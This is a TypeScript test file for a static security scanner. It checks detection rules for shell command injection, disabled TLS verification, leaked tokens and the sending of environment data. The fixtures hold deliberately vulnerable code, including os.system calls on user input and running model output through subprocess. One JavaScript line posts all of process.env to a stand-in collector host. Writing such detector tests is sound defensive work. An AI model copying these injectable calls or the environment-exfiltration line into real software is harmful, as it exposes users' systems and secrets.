/** The engine's contracts, on rules defined inline so the tests do not move when rule packs change. */
import assert from 'node:assert/strict';
import { Engine, globMatch } from '../../server/src/engine/engine';
import { buildRuleSet } from '../../server/src/engine/ruleset';
import { check } from '../../server/src/engine/schema';
import { RuleSchema } from '../../server/src/engine/rule';
import { candidateNames, namePattern } from '../../server/src/engine/names';
import { ALL, TODAY, testEngine } from '../helpers';
import { Parser } from 'web-tree-sitter';
import { codeLanguage, loadGrammar } from '../../server/src/languages/registry';
import { FlowAnalyzer } from '../../server/src/engine/flow';
import { rule as envExfiltration } from '../../server/src/rules/llm/env-exfiltration';

const base = { severity: 'high', confidence: 'medium', category: 'command-injection', cwe: ['CWE-78'], message: 'Dangerous call {{callee}}.' };
const rules = [
  { ...base, id: 't/shell', title: 'Shell with data', languages: ['python'], match: { call: ['subprocess.run', 'os.system'], sink: '0|args' } },
  { ...base, id: 't/exec', title: 'exec with data', languages: ['javascript'], match: { call: 'child_process.exec', sink: '0' } },
  { ...base, id: 't/go', title: 'go command', languages: ['go'], match: { call: 'os/exec.Command', args: { '0': { value: '^(sh|bash)$' } } } },
  { ...base, id: 't/verify', title: 'verify off', languages: ['python'], category: 'tls', match: { property: 'verify', value: { value: '^False$' } } },
  { ...base, id: 't/secret', title: 'fake key', languages: ['text'], category: 'secrets', text: { regex: 'tk_[A-Za-z0-9]{20}', keywords: undefined } },
].map((rule) => JSON.parse(JSON.stringify(rule)));
const engine = new Engine(buildRuleSet(rules.map((rule) => ({ path: `${rule.id}.yaml`, rule })), '/docs'));

async function ids(path: string, text: string, key?: string) {
  const result = await engine.analyse({ path, text, ...(key ? { key } : {}) }, { config: ALL, today: TODAY });
  return result.findings.map((f) => `${f.ruleId}@${f.range.start.line + 1}:${f.confidence}`);
}

describe('engine', () => {
  it('rule schema errors name the path and suggest the key that was meant', () => {
    const errors = check(RuleSchema, { id: 'Bad Id', title: 'x', severty: 'high' });
    const text = errors.map((e) => `${e.path}: ${e.message}`).join('\n');
    assert.match(text, /severty.*did you mean "severity"/);
    assert.match(text, /id: "Bad Id" does not match/);
    assert.match(text, /languages: "languages" is required/);
  });

  it('name patterns and import aliases', () => {
    assert.ok(namePattern('*.innerHTML').regex.test('document.body.innerHTML'));
    assert.ok(!namePattern('*.innerHTML').regex.test('innerHTML'));
    assert.equal(namePattern('subprocess.run').last, 'run');
    assert.deepEqual(candidateNames('sp.run', new Map([['sp', 'subprocess']])), ['sp.run', 'subprocess.run']);
  });

  it('matches path globs by whole folder and file names', () => {
    const yes: [string, string][] = [['**/tests/**', 'tests/a.py'], ['**/tests/**', 'src/tests/a/b.py'], ['**/tests/**', 'src/tests'], ['**/test_*.py', 'test_a.py'], ['**/test_*.py', 'pkg/test_a.py'], ['**/settings/*.py', 'app/settings/prod.py'], ['src/*.js', 'src/a.js'], ['**/a?.md', 'x\\ab.md']];
    const no: [string, string][] = [['**/tests/**', 'src/contests/a.py'], ['**/tests/**', 'tests.py'], ['**/test_*.py', 'pkg/mytest_a.py'], ['**/test_*.py', 'test_a.pyc'], ['**/settings/*.py', 'app/settings/a/prod.py'], ['src/*.js', 'src/a/b.js'], ['**/a?.md', 'abc.md']];
    for (const [glob, path] of yes) assert.ok(globMatch(glob, path), `${glob} should match ${path}`);
    for (const [glob, path] of no) assert.ok(!globMatch(glob, path), `${glob} should not match ${path}`);
  });

  it('resolves Python import aliases and ignores strings and comments', async () => {
    const text = [
      'import subprocess as sp',
      'from os import system',
      'import sys',
      'sp.run(sys.argv[1])',
      'system("ls " + sys.argv[1])',
      '# subprocess.run(sys.argv[1])',
      'doc = "subprocess.run(sys.argv[1])"',
      'sp.run("ls -l")',
    ].join('\n');
    assert.deepEqual(await ids('a.py', text), ['t/shell@4:high', 't/shell@5:high']);
  });

  it('follows data through variables, f-strings and sanitizers, and keeps unknown origin at the rule confidence', async () => {
    const text = [
      'import subprocess, shlex',
      'from flask import request',
      'def a():',
      '    host = request.args.get("h")',
      '    cmd = f"ping {host}"',
      '    subprocess.run(cmd)',
      'def b(name):',
      '    subprocess.run("echo " + name)',
      'def c():',
      '    fixed = "ls"',
      '    subprocess.run(fixed)',
      'def d():',
      '    subprocess.run("ping " + shlex.quote(request.args["h"]))',
    ].join('\n');
    assert.deepEqual(await ids('a.py', text), ['t/shell@6:high', 't/shell@8:medium']);
  });

  it('treats model output as untrusted', async () => {
    const text = [
      'import subprocess',
      'from openai import OpenAI',
      'client = OpenAI()',
      'def run():',
      '    response = client.chat.completions.create(model="m", messages=[])',
      '    command = response.choices[0].message.content',
      '    subprocess.run(command)',
    ].join('\n');
    const result = await engine.analyse({ path: 'a.py', text }, { config: ALL });
    assert.equal(result.findings.length, 1);
    assert.match(result.findings[0]!.message, /model output/);
  });

  it('resolves JavaScript require destructuring and Go import paths', async () => {
    assert.deepEqual(await ids('a.js', 'const { exec } = require("node:child_process");\nexec(`ls ${process.argv[2]}`);\n'), ['t/exec@2:high']);
    assert.deepEqual(await ids('a.go', 'package m\nimport x "os/exec"\nfunc f() { x.Command("sh", "-c", y) }\n'), ['t/go@3:medium']);
  });

  it('matches properties and keyword arguments by value', async () => {
    assert.deepEqual(await ids('a.py', 'import requests\nrequests.get(u, verify=False)\nrequests.get(u, verify=True)\n'), ['t/verify@2:medium']);
  });

  it('applies ignore directives with reasons and fails closed without one', async () => {
    const text = [
      'import os, sys',
      'os.system(sys.argv[1])  # ai-audit-ignore t/shell -- admin tool, input is trusted',
      'os.system(sys.argv[1])  # ai-audit-ignore t/shell',
    ].join('\n');
    assert.deepEqual(await ids('a.py', text), ['t/shell@3:high']);
  });

  it('reports a call that is the argument of another of its rule once, and separate calls inside one each', async () => {
    const text = [
      'import os, sys',
      'os.system(os.system(sys.argv[1]))',
      'os.system("echo " + os.system(sys.argv[2]))',
      'os.system(  # ai-audit-ignore t/shell -- reviewed: the outer call only',
      '    os.system(sys.argv[3]))',
    ].join('\n');
    assert.deepEqual(await ids('a.py', text), ['t/shell@2:high', 't/shell@3:high', 't/shell@3:high', 't/shell@5:high']);
    // The silenced outer call hides nothing in a report that lists silenced findings either.
    const kept = await engine.analyse({ path: 'a.py', text }, { config: ALL, today: TODAY, keepSuppressed: true });
    assert.deepEqual(kept.findings.map((f) => `${f.range.start.line + 1}${f.suppression ? ' silenced' : ''}`), ['2', '3', '3', '4 silenced', '5']);
  });

  it('keeps fingerprints when lines are added above a finding', async () => {
    const text = 'import os, sys\nos.system(sys.argv[1])\n';
    const a = await engine.analyse({ path: 'a.py', text }, { config: ALL });
    const b = await engine.analyse({ path: 'a.py', text: `# a comment\n\n${text}` }, { config: ALL });
    assert.equal(a.findings[0]!.fingerprint, b.findings[0]!.fingerprint);
    assert.notEqual(a.findings[0]!.range.start.line, b.findings[0]!.range.start.line);
  });

  it('re-parses incrementally and gives the same findings as a fresh parse', async () => {
    const key = 'file:///inc.py';
    const first = 'import os, sys\n\ndef f():\n    return 1\n';
    assert.deepEqual(await ids('inc.py', first, key), []);
    const second = first.replace('return 1', 'return os.system(sys.argv[1])');
    assert.deepEqual(await ids('inc.py', second, key), await ids('inc.py', second));
    assert.deepEqual(await ids('inc.py', second, key), ['t/shell@4:high']);
    engine.forget(key);
  });

  it('sends of the whole environment: found from a binding outside the part of the tree searched, and none where no whole environment is named', async () => {
    const bundled = testEngine();
    const found = async (text: string) => (await bundled.analyse({ path: 'env.js', text }, { config: ALL, today: TODAY })).findings.filter((f) => f.ruleId === 'llm/env-exfiltration').map((f) => f.range.start.line + 1);
    const sent = "const axios = require('axios');\nconst ENV = process.env;\nfunction report() {\n  return axios.post('https://collector.example.invalid/', ENV);\n}\n";
    assert.deepEqual(await found(sent), [4]);
    assert.deepEqual(await found(sent.replace('const ENV = process.env;', 'const ENV = { port: process.env.PORT, home: process.env["HOME"] };')), []);
    // Searched in the function alone (as after an edit inside it), the binding outside it is still followed.
    const language = codeLanguage('javascript');
    const parser = new Parser();
    parser.setLanguage(await loadGrammar(language));
    const tree = parser.parse(sent)!;
    const root = tree.rootNode.descendantsOfType('function_declaration')[0]!;
    const imports = language.imports(tree.rootNode);
    const reported: number[] = [];
    envExfiltration.check({ path: 'env.js', text: sent, formats: new Set(['javascript']), unreviewed: [], yaml: () => [], json: () => undefined, report: (r) => reported.push(r.start), code: { language, tree, root, imports, flow: new FlowAnalyzer(language, tree.rootNode, imports, sent) } });
    assert.deepEqual(reported, [sent.indexOf('axios.post(')]);
    tree.delete();
    parser.delete();
  });

  it('cuts off a slow analysis and says so instead of hanging', async () => {
    const text = `import os, sys\n${'os.system(sys.argv[1])\n'.repeat(20000)}`;
    const result = await engine.analyse({ path: 'big.py', text }, { config: { ...ALL, timeBudgetMs: 1 } });
    assert.ok(result.notices.some((n) => n.kind === 'timeout'), JSON.stringify(result.notices));
  });

  it('compiles the raw queries of a language as one and leaves out, for one grammar, a query that does not compile there', async () => {
    const query = (id: string, source: string) => ({ ...base, id, title: id, languages: ['javascript'], message: 'Query match.', match: { query: source } });
    const own = new Engine(
      buildRuleSet(
        // The JSX query does not compile for the TypeScript grammar (no JSX there) but does for TSX and JavaScript.
        [query('t/debugger', '(debugger_statement) @match'), query('t/jsx', '(jsx_self_closing_element) @match'), query('t/ternary', '(ternary_expression condition: (identifier) @match)')].map((rule) => ({ path: `${rule.id}.yaml`, rule: JSON.parse(JSON.stringify(rule)) })),
        '/docs',
      ),
    );
    const found = async (path: string, text: string) => (await own.analyse({ path, text }, { config: ALL, today: TODAY })).findings.map((f) => `${f.ruleId}@${f.range.start.line + 1}`);
    assert.deepEqual(await found('a.ts', 'debugger;\nconst a = b ? c : d;\n'), ['t/debugger@1', 't/ternary@2']);
    assert.deepEqual(await found('a.tsx', 'debugger;\nconst e = <X />;\nconst a = b ? c : d;\n'), ['t/debugger@1', 't/jsx@2', 't/ternary@3']);
  });

  it('finds text rules in any file and skips files without the keywords', async () => {
    assert.deepEqual(await ids('notes.txt', 'token tk_Q7f3Lm9Zp2Xw8Rt5Yb1N\n'), ['t/secret@1:medium']);
  });
});
